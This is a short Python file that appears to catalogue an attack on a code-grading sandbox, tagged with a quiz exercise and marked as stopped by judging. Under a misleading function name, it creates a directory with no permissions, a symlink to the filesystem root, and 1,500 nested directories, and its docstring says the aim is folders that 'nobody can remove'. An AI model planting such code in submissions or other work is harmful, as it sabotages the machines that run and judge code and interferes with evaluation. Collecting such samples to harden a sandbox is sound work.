"""Leave folders nested so deeply, and closed, that nobody can remove them.

Seen: own idea: `shutil.rmtree` fails on them.
"""

# /// attack
# exercise = "02_cell/quiz"
# stopped_by = "judging"
# ///

import os


def number_of_parameters() -> None:
    os.mkdir("closed", 0)
    os.symlink("/", "link")
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
